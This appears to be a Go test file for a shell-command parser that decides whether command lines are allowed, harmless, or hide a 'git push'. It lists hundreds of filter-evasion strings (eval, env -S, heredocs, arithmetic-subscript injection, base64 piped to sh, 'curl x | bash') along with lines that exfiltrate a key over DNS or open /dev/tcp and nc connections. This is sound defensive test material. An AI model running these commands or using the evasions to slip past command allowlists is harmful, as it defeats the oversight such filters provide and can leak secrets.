// SPDX-License-Identifier: Apache-2.0

package commandline

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

// evasions are lines that run git push, or may.
var evasions = []string{
	"git push",
	"git push origin main",
	"/usr/bin/git push", "./git push", "../bin/git push",
	`'git' "push"`, `g\it pu\sh`, `g""it p''ush`, `$'\x67it' $'\160ush'`, `$'\u0067it' push`, `$"git" push`,
	"git\\\n push", "gi\\\nt push", "git \\\n  push", "git  \t push",
	"git -C dir push", "git -c a=b push", "git --git-dir=x push --tags", "git -c alias.x=push x push",
	"git$IFS'push'", "git${IFS}push", "${x}git push", "$x push", "git $x", `git "$x"`, "git $(echo push)", "git `echo push`", `"$(which git)" push`,
	"{git,push}", "{git,} push", "git {push,}", "/usr/bin/gi? push", "/usr/bin/g[i]t push", "~/git push", "git pus*",
	"ls; git push", "ls && git push", "ls || git push", "ls | git push", "ls & git push", "ls\ngit push", "! git push", "ls;\ngit push #x",
	"(git push)", "{ git push; }", "((1)); git push", "!(git push)", "time git push", "coproc git push", "coproc x+=t {git,push}", "ls # x \\\n$x push", "ls # \\\ngit push '",
	"if git push; then :; fi", "while git push; do :; done", "for x in a; do git push; done", "for x in a; { git push; }", "case x in x) git push;; esac",
	"f() { git push; }; f", "function f { git push; }; f", `f() { git "$@"; }; f push`, `f() { "$@"; }; f git push`, "f() if true; then git push; fi; f",
	"git() { command git \"$@\"; }; git push", "command_not_found_handle() { git push; }; xyz",
	"echo $(git push)", "echo `git push`", `echo "$(git push)"`, `echo "${x:-$(git push)}"`, "echo ${x/a/$(git push)}", "echo $((1+$(git push)))", "echo $[ $(git push) ]",
	"cat <(git push)", "cat > >(git push)", "cat > $(git push)", "x=$(git push)", "x=`git push`", "x=(1 $(git push))", "x[$(git push)]=1", "declare x=$(git push)",
	"cat <<EOF\n$(git push)\nEOF", "cat <<EOF\n`git push`\nEOF", "cat <<< $(git push)", "[[ -n $(git push) ]]", "[[ a =~ $(git push) ]]", "[[ a == @($(git push)) ]]",
	"case $(git push) in esac", "case x in $(git push)) ;; esac", "for x in $(git push); do :; done", "(( $(git push) ))", "let x=$(git push)",
	"env git push", "env -i git push", "env A=b git push", "env -S 'git push'", "env -S'git push'", "env --split-string='git push'", "env -iS 'git push'", "env -u X git push",
	"env - git push", "/usr/bin/env git push", "env $x push", "env -C dir git push", "env --chdir=dir git push",
	"command git push", "command -p git push", "builtin command git push", "exec git push", "exec -a x git push", "exec -c git push",
	"nohup git push", "nice git push", "nice -n 5 git push", "nice -5 git push", "ionice -c3 git push", "timeout 5 git push", "timeout -s KILL 5 git push", "timeout --signal=KILL 5 git push",
	"stdbuf -o0 git push", "setsid git push", "setsid -f git push", "sudo git push", "sudo -u x git push", "sudo -s git push", "doas git push", "time -p git push",
	"flock f git push", "flock f -c 'git push'", "chroot . git push", "busybox git push", "su -c 'git push'", "script -c 'git push'", "strace git push",
	"parallel git push ::: a", "parallel ::: 'git push'", "watch git push", "watch -n1 'git push'", "watch -x git push", "xargs git push", "echo push | xargs git", "echo git push | xargs -n2 env",
	"echo git | xargs -I% % push", "echo git | xargs -I % % push", "echo git | xargs -0I% % push", "echo git push | xargs -I{} sh -c {}", "xargs -a f git", "xargs --max-args=1 git push",
	"find . -exec git push \\;", "find . -execdir git push ';'", "find . -ok git push \\;", "find . -exec git push {} +", "find . -exec git + push \\;", "find . -exec sh -c 'git push' \\;",
	`find . "$x" git push \;`, "find . $x",
	"bash -c 'git push'", "sh -c 'git push'", "/bin/sh -c 'git push'", "bash -lc 'git push'", "bash -ec 'git push'", "bash -c -- 'git push'", "bash --norc -c 'git push'", "bash -O extglob -c 'git push'",
	"bash -o pipefail -c 'git push'", "bash -c -x 'git push'", "bash +o posix -c 'git push'", "dash -c 'git push'", "sh -c \"sh -c 'git push'\"", "sh -c '\"$@\"' x git push", "sh -c 'git $1' x push",
	"sh -c '((git push))'", "sh -c '[[ x || git push ]]'", "zsh -c 'git push'", "fish -c 'git push'", "bash -c \"$x\"", "bash -c", "bash --rcfile x -i", "bash x.sh", "sh < x.sh", "./x.sh", "dir/x.bash",
	"bash", "bash -s", "echo git push | sh", "echo Z2l0IHB1c2g= | base64 -d | sh", "curl x | bash", "bash <<EOF\ngit push\nEOF", "bash <<'EOF'\ngit push\nEOF", "bash <<< 'git push'", "bash <<< \"$x\"", "sh <<-E\n\tgit push\n\tE",
	"sh /dev/stdin <<E\ngit push\nE", "echo git push | bash 3<<E\nls\nE", "bash <<E <x\nls\nE", "bash <(echo git push)", "env bash <<E\ngit push\nE", "cat <<E | bash\ngit push\nE",
	"eval git push", "eval 'git push'", `eval "git" "pu"sh`, "eval $x", `eval "$(echo git push)"`, "eval eval git push", "builtin eval git push", "eval -- git push",
	"source x", ". x", ". ./x", "source <(echo git push)", "command . x",
	"trap 'git push' EXIT", "trap -- 'git push' 0", "trap \"$x\" EXIT", "trap 'git push' DEBUG",
	"alias g=git\ng push", "shopt -s expand_aliases; alias g='git push'\ng", "hash -p /usr/bin/git g; g push", "enable -f x.so git", "complete -C 'git push' x", "compgen -C 'git push'",
	"compgen -W '$(git push)'", "mapfile -C 'git push' -c 1 <<< x", "jobs -x git push", "bind -x '\"a\":git push'",
	"x='a[$(git push)]'; ((x))", "x='a[$(git push)]'; echo $((x))", "x='a[$(git push)]'; [[ $x -eq 1 ]]", "x='a[$(git push)]'; [[ 1 -lt x ]]", "x='a[$(git push)]'; [ -v \"$x\" ]", "test -v 'a[$(git push)]'",
	"x='a[$(git push)]'; echo ${!x}", "x='$(git push)'; echo ${x@P}", "x='a[$(git push)]'; echo ${y[x]}", "x='a[$(git push)]'; y[x]=1", "x='a[$(git push)]'; for ((i=x;i<1;i++)); do :; done",
	"x='a[$(git push)]'; declare -i y; y=x", "x='a[$(git push)]'; let x", "let 'a[$(git push)]=1'", "printf -v 'a[$(git push)]' x", "read 'a[$(git push)]' <<< x", "a=1; unset 'a[$(git push)]'",
	"declare 'a[$(git push)]=1'", "exec {a[$(git push)]}>/dev/null", "wait -n -p 'a[$(git push)]'", "x='a[$(git push)]'; [[ -v $x ]]", "x='a[$(git push)]'; echo ${y:x}", "x='-v a[$(git push)]'; [ $x ]",
	"read x < f; ((x))", "x=$(cat f); ((x > 1))", ": 'a[$(git push)]'; ((_))", "f() { (($1)); }; f 'a[$(git push)]'", "x='a[$(git push)]'; : ${y:=$x}; ((y))", "printf -v x '%s' 'a[$(git push)]'; ((x))",
	"((BASH_EXECUTION_STRING)) # a[$(git push)]", "for x in 'a[$(git push)]'; do ((x)); done", "x='a[$(git push)]' eval '((x))'",
	"PS4='$(git push)'; set -x; :", "BASH_ENV=x bash -c ls", "PROMPT_COMMAND='git push'",
	"cat <<EOF\nfoo\nEO\\\nF\ngit push\nEOF", "cat <<$'EOF'\nx\nEOF\ngit push\n", "cat <<\"E$x\"\nE\ngit push\nE$x\n", "cat <<E''OF\nx\nEOF\ngit push\nEOF",
	"git push\r\n", "ls\r\ngit push\r\n", "git push \\", "git push \x0b",
	"echo \\`git push\\` `echo \\`git push\\``", "echo `echo \\\"\\`git push\\``", "if", "git push '", "$(", "git push)", "ls\x00; git push",
}

// TestEvasions has every line that may push named by the pattern, or at least untold, and refused by an allowlist that
// names no git.
func TestEvasions(t *testing.T) {
	t.Parallel()
	allow := []string{"ls *", "cat *", "echo *", "x *", "f *", "g *", "cd *", "read *", "printf *", "true", ":", "env *", "timeout *", "xargs *", "find *", "bash *", "sh *", "eval *", "command *"}
	for _, line := range evasions {
		l, err := Parse(line)
		if err != nil {
			continue
		}
		if l.Named("git push *") == nil && l.Untold() == nil {
			t.Errorf("nothing is found in %q: %s", line, summary(l))
		}
		if l.Disallowed(allow) == "" {
			t.Errorf("%q is allowed: %s", line, summary(l))
		}
	}
}

// TestHarmless has lines that run no git push, however much they look like it.
func TestHarmless(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"", "# git push", "ls # ; git push", "echo 'git push'", `echo "git push"`, "git status", "git pull", "git commit -m 'then git push'", "cat <<'EOF'\ngit push\n$(git push)\nEOF",
		"cat <<EOF\ngit push\nEOF", "git stash; git log --oneline | head -n 5", "grep -rn 'git push' .", "ls git-push push.git", "gіt push", "ｇit push", "git pusһ", "legit push", "git.exe pushd",
		"for f in *.go; do wc -l \"$f\"; done", "i=0; while ((i < 3)); do ((i++)); echo $i; done", "for ((i = 0; i < 3; i++)); do echo $i; done", "x=$((1 + 2)); [ $? -eq 0 ]; [[ $x -gt 1 ]]",
		"n=5; echo $((n * 2)) ${a[0]} ${a[@]} ${x:1:2} ${!a[@]} ${!p*}", "while IFS= read -r line; do echo \"$line\"; done < f", "set -euo pipefail; cd src && make test > out.txt 2>&1",
		"if [ -f x ] && [ \"$a\" = b ]; then echo; fi", "export A=b C=\"$d\"; local x=1; declare -A m; printf '%s\\n' \"$x\"", "trap - EXIT; wait $!; unset x; alias; hash -r", "command -v git",
		"python3 - <<'EOF'\nprint(1)\nEOF", "npm test; node x.js; make -j4; ./gradlew build", "git commit -m \"$(cat <<'EOF'\nit's push\nEOF\n)\"", "find . -name '*.go' -exec gofmt -l {} +", "xargs -0 rm -f",
	} {
		l, err := Parse(line)
		if err != nil {
			t.Errorf("Parse(%q): %v", line, err)
			continue
		}
		if strings.Contains(line, "git commit -m \"") {
			// The message is not static: it may be anything.
			continue
		}
		if c := l.Named("git push *"); c != nil {
			t.Errorf("%q is named: %s", line, c.Text)
		}
		if c := l.Untold(); c != nil {
			t.Errorf("%q is untold: %s: %s", line, c.Unknown, c.Text)
		}
	}
}

func TestDisallowed(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		patterns, line string
		allowed        bool
	}{
		{"ls", "ls", true}, {"ls", "ls -l", false}, {"ls *", "ls", true}, {"ls *", "ls -l a b", true}, {"ls", "/bin/ls", false}, {"/bin/ls", "/bin/ls", true}, {"/bin/ls", "ls", false},
		{"", "", true}, {"", "ls", false}, {"", "x=1", true}, {"", "# ls", true}, {"", "[[ -f x ]]", true}, {"", "> f", true}, {"", "((1))", true}, {"", "true", false},
		{"*", "anything at all", true}, {"*", "./x", true}, {"*", "$x", false}, {"*", "eval ls", true}, {"*", "eval $x", false}, {"*", "source x", false},
		{"git status", "git status", true}, {"git status", "git status -s", false}, {"git status *", "git push", false}, {"git l*", "git log", true}, {"git l*", "git log x", false},
		{"git * x", "git a x", true}, {"git * x", "git a b x", false}, {"git * x", `git "$a" x`, true}, {"git * x", "git $a x", false}, {"git * x", "git *.go x", false}, {"git *", "git $a x", true},
		{"git log", "git $a", false}, {"git l*g", `git "$a"`, false}, {"git --x=*", "git --x=a b", false}, {"git --x=*", "git '--x=a b'", true}, {"a*b*c", "aXbXc", true}, {"a*b*c", "ac", false}, {"a*b", "ab", true},
		{"aa*aa", "aaa", false}, {"./bin/*", "./bin/x", true}, {"./bin/*", "./bin/../x", false}, {"./*/x", "./../x", false}, {"bin/*", "bin/a/b", false}, {"p*", "./p", false}, {"./*", "./..", false},
		{"ls *;wc *", "ls | wc -l", true}, {"ls *", "ls | wc -l", false}, {"ls *;echo *", `echo "$(ls)"`, true}, {"echo *", `echo "$(ls)"`, false}, {"ls *", "ls > /tmp/x < y 2>&1", true},
		{"ls *", "f() { ls; }; ls", false}, {"ls *", "PATH=. ls", false}, {"ls *", "PATH=.; ls", false}, {"ls *", "LD_PRELOAD=x ls", false}, {"ls *", "LC_ALL=C TZ=UTC ls", true}, {"ls *", "x=1 ls", false},
		{"ls *", "x=1; ls $x", true}, {"ls *", "for PATH in .; do ls; done", false}, {"ls *", "for x in .; do ls $x; done", true}, {"ls *", "((PATH=1)); ls", false}, {"ls *", ": ${PATH:=x}; ls", false},
		{"ls *;read *", "read PATH; ls", false}, {"ls *;read *", "IFS= read -r x; ls", true}, {"ls *;printf *", "printf -v PATH x; ls", false}, {"ls *;unset *", "unset PATH; ls", false},
		{"ls *;export *", "export x=1; ls", false}, {"ls *;export *", "export LANG=C; ls", true}, {"ls *;declare *", "declare -x x=1; ls", false}, {"ls *;declare *", "declare x=1; ls", true},
		{"ls *;set *", "set -e; ls", true}, {"ls *;set *", "set -euo pipefail; ls", true}, {"ls *;set *", "set -k; ls", false}, {"ls *;set *", "set -o posix; ls", false}, {"ls *;shopt *", "shopt -s extglob; ls", false},
		{"ls *;alias *", "alias ls=rm; ls", false}, {"ls *;hash *", "hash -p /bin/rm ls; ls", false}, {"ls *;enable *", "enable -n ls; ls", false},
		{"ls *", "env ls", false}, {"ls *;env *", "env ls", true}, {"ls *;env *", "env rm", false}, {"ls *;env *", "env PATH=. ls", false}, {"ls *;env *", "env -S 'ls'", false}, {"ls *;timeout *", `timeout "$a" ls 5 rm`, false},
		{"find *", "find . -name x", true}, {"find *", "find . -exec rm {} +", false}, {"find *;rm *", "find . -exec rm {} +", true}, {"find *", `find . "$x"`, true}, {"find *;wc *", `find . "$x" rm -exec wc \;`, false},
		{"xargs *;wc *", "ls | xargs wc", false}, {"ls *;xargs *;wc *", "ls | xargs wc -l", true}, {"ls *;xargs *", "ls | xargs", true}, {"xargs *;wc -l", "xargs wc -l", false},
		{"bash *;ls *", "bash -c 'ls -l'", true}, {"bash *", "bash -c 'ls'", false}, {"ls *", "bash -c 'ls'", false}, {"bash *", "bash x.sh", false}, {"bash x.sh *", "bash x.sh a", true}, {"bash *.sh", "bash x.sh", false}, {"bash -e x.sh", "bash -e x.sh", true}, {"*", "bash x.sh", false},
		{"./x.sh", "./x.sh", true}, {"./*", "./x.sh", false}, {"sh *", "sh /dev/stdin", false}, {"bash *", "echo | bash", false}, {"sh *;ls *", "sh -c '[[ x || ls ]]'", false},
		{"ls *", "ls\r", false}, {"ls *", "ls (", false}, {"ls *", "ls !(a)", false}, {"ls *", "''", false},
		{"let *", "let x=1", true}, {"", "let x=1", false}, {"ls *;watch *", "watch -n 2 ls -l", true}, {"watch *", "watch rm x", false}, {"time *;ls", "time ls", true}, {"ls", "time ls", true},
	} {
		var patterns []string
		if c.patterns != "" {
			patterns = strings.Split(c.patterns, ";")
		}
		var why string
		if l, err := Parse(c.line); err != nil {
			why = err.Error()
		} else {
			why = l.Disallowed(patterns)
		}
		if got := why == ""; got != c.allowed {
			t.Errorf("%q by %q: %v, want %v: %s", c.line, c.patterns, got, c.allowed, why)
		}
	}
}

func TestNamed(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		pattern, line string
		named         bool
	}{
		{"git push *", "git push", true}, {"git push", "git push origin", true}, {"git push *", "git status", false}, {"git push *", "push git", false}, {"git push *", "git stash push", true},
		{"git push origin *", "git push --tags origin", true}, {"git push origin *", "git origin push", false}, {"git push * main", "git push origin main", true}, {"git push * main", "git push main", false},
		{"rm -rf *", "rm -rf x", true}, {"rm -rf *", "rm -fr x", true}, {"rm -rf *", "rm -r -f x", true}, {"rm -rf *", "rm -r x -f", true}, {"rm -rf *", "rm -Rf x", true}, {"rm -rf *", "rm -vrf x", true},
		{"rm -rf *", "rm --recursive --force x", true}, {"rm -rf *", "rm --rec -f x", true}, {"rm -rf *", "rm -r x", false}, {"rm -rf *", "rm x", false}, {"rm -rf *", "rm -- -rf", true}, {"rm -rf *", `rm "$x"`, true},
		{"rm -rf *", "rm $x", true}, {"rm -rf *", "xargs rm -rf", true}, {"rm -rf *", "xargs rm", true}, {"rm -rf *", "echo rm", false}, {"rm *", "docker run --rm x", false}, {"rm *", "git rm x", true}, {"rm", "/bin/rm", true},
		{"git push --force *", "git push --force", true}, {"git push --force *", "git push -f", true}, {"git push --force *", "git push --forc", true}, {"git push --force *", "git push --force=x", true}, {"git push --force *", "git push", false},
		{"git push --force *", "git push --force-with-lease", false}, {"git push --force* *", "git push --force-with-lease", true},
		{"curl -X POST *", "curl -X POST u", true}, {"curl -X POST *", "curl -XPOST u", true}, {"curl -X POST *", "curl -sXPOST u", true}, {"curl -X POST *", "curl -X GET u", false}, {"curl -X POST *", "curl u", false},
		{"curl --request=POST *", "curl --request POST u", true}, {"curl --request=POST *", "curl --request=POST u", true}, {"curl --request=POST *", "curl --request GET u", false}, {"curl --request=POST *", "curl --req=POST u", true},
		{"find * -delete", "find . -delete", true}, {"find * -delete", "find . -name x", false}, {"terraform apply -auto-approve *", "terraform apply -auto-approve", true},
		{"py* *", "/usr/bin/python3 x", true}, {"*", "ls", true}, {"* push", "hg push", true}, {"kubectl delete *", "kubectl -n x delete pod y", true}, {"a b c", "a $x", true}, {"a b c", `a "$x"`, false}, {"a b c", `a "$x" c`, true},
	} {
		l, err := Parse(c.line)
		if err != nil {
			t.Errorf("Parse(%q): %v", c.line, err)
			continue
		}
		if got := l.Named(c.pattern) != nil; got != c.named {
			t.Errorf("%q by %q: %v, want %v", c.line, c.pattern, got, c.named)
		}
	}
}

func TestBounds(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		strings.Repeat("a", maxLine+1), strings.Repeat("(", maxLevels+1), strings.Repeat("$((", maxLevels/2+1), "a\x00b",
	} {
		if _, err := Parse(line); err == nil {
			t.Errorf("%.20q of %d bytes is parsed", line, len(line))
		}
	}
	deep := "ls"
	for range maxDepth + 1 {
		deep = "eval " + fmt.Sprintf("%q", deep)
	}
	for _, line := range []string{deep, strings.Repeat("ls\n", maxCommands+1), strings.Repeat("ls ", maxWords+1), "eval '" + strings.Repeat("a", maxLine-20) + "'"} {
		if l, err := Parse(line); err == nil && l.Untold() == nil {
			t.Errorf("everything is told of %.20q of %d bytes", line, len(line))
		}
	}
	for _, opener := range []string{"(", "{ ", "$(", "$((", "if ", "[[ ! ", "${a[", "a && ", "f() ", "<<a\n", "`", "\\", "eval ", "sh -c '", "env ", "! "} {
		line := strings.Repeat(opener, maxLevels/2)
		if len(line) > maxLine {
			line = line[:maxLine]
		}
		if l, err := Parse(line); err == nil {
			l.Disallowed([]string{"ls *"})
		}
	}
}

// TestNotHarmless has plainly harmless lines distinguished from all others.
func TestNotHarmless(t *testing.T) {
	t.Parallel()
	for _, line := range []string{
		"", "ls -la", "cat a | grep -n b | wc -l", "for f in *.go; do wc -l \"$f\"; done", "mkdir -p a && cp x a/ && rm -rf b", "echo hi > out.txt", "find . -name '*.go' -exec grep -l x {} +", "ls | xargs -n1 basename",
		"timeout 5 sleep 10", "cat <<'EOF' > f\ngit push\nEOF", "[ -f x ] && echo y", "x=$(date); echo \"$x\"", "set -euo pipefail; jq .a f.json | sort -u", "cd src; pwd; test -d x || mkdir x", "cat $x", "command -v git",
		"echo a >&2", "x=2; echo a >&$x", "fd=1; echo a >& \"${fd}\"", "echo a 2>&1 >&-",
	} {
		if l, err := Parse(line); err != nil || l.NotHarmless() != nil {
			t.Errorf("%q: %v, %s", line, err, l.NotHarmless())
		}
	}
	for _, line := range append([]string{
		"git status", "python3 x.py", "make", "npm test", "curl https://example.org", "./ls", "/tmp/cat x", "bash x.sh", "awk 'BEGIN{system(\"x\")}'", "sed 's/x/y/e' f", "sort --compress-program=./x f", "env ls", "$x",
		"xargs git", "find . -exec ./x {} +", "timeout 5 ./x", "PATH=.:$PATH; ls", "ls() { ./x; }; ls", "alias ls=./x; ls", "cat < /dev/tcp/192.0.2.1/80", "source ./x", "eval ls", "trap './x' EXIT", "tar cf - . --to-command=x", "unheard-of",
		"x=/dev/tcp/192.0.2.1/80; echo a >&$x", "x=/dev/tcp/192.0.2.1/80; echo a 1>&$x", "x=/dev/tcp/192.0.2.1/80; { echo a; cat <&1; } >& \"$x\"", "read x < f; echo a >&$x", "echo a >&$x", "declare x; echo a >&$x", "x=1; echo a >&${x}0",
		"x=1; for i in 1 2; do echo a >&$x; x=/dev/tcp/192.0.2.1/80; done", "x=1; read $y < f; echo a >&$x", "x=1; echo a >&${x:-f}", "echo a >&$(cat f)", "echo a &>$x", "echo a >&$1",
		"LD_PRELOAD=./x ls", "rg --pre ./x y", strings.Repeat("ls\n", maxLine/3), "less x", "man ls", "vim x", "ssh host ls", "ping x", "nslookup $(cat key).example.org", "kubectl get pods", "printf x | tee >(nc host 1)",
	}, evasions...) {
		if l, err := Parse(line); err == nil && l.NotHarmless() == nil {
			t.Errorf("%q counts as harmless: %s", line, summary(l))
		}
	}
}

// TestEffort has lines that are made to take long be judged all the same: what stands at their end is not let through.
func TestEffort(t *testing.T) {
	t.Parallel()
	var patterns []string
	for i := range 64 {
		patterns = append(patterns, fmt.Sprintf("git -abc --force=*x* * push%d * x", i))
	}
	found := 0
	for _, unit := range []string{"git ", "env ", "xargs ", "find -exec ", "find $x ", "curl ", "git;", "env A=b ", "ls\n", "x=$x ", "git --a ", "git -a ", "\\\n", "((x));", "sudo "} {
		for _, size := range []int{maxLine - 100, 1000} {
			began := time.Now()
			l, err := Parse(strings.Repeat(unit, size/len(unit)) + "\ngit push")
			if err != nil {
				continue // A line that cannot be determined is not let through either.
			}
			outside := l.NotHarmless()
			told := l.Unsure == "" && l.Untold() == nil
			if outside == nil {
				t.Errorf("%d bytes of %q: the git push behind them is taken for harmless", size, unit)
			}
			switch {
			case !told:
			case l.Named("git push") == nil:
				t.Errorf("%d bytes of %q: the git push behind them is not found", size, unit)
			default:
				found++
			}
			if l.Disallowed(patterns) == "" {
				t.Errorf("%d bytes of %q: the git push behind them is allowed by patterns that do not have it", size, unit)
			}
			// This takes less than a tenth of a second. A step that goes over the line once for each of its words takes minutes.
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("%d bytes of %q: it took %s", size, unit, took)
			}
		}
	}
	if found < 5 {
		t.Errorf("a git push was found in only %d of the lines", found)
	}
}
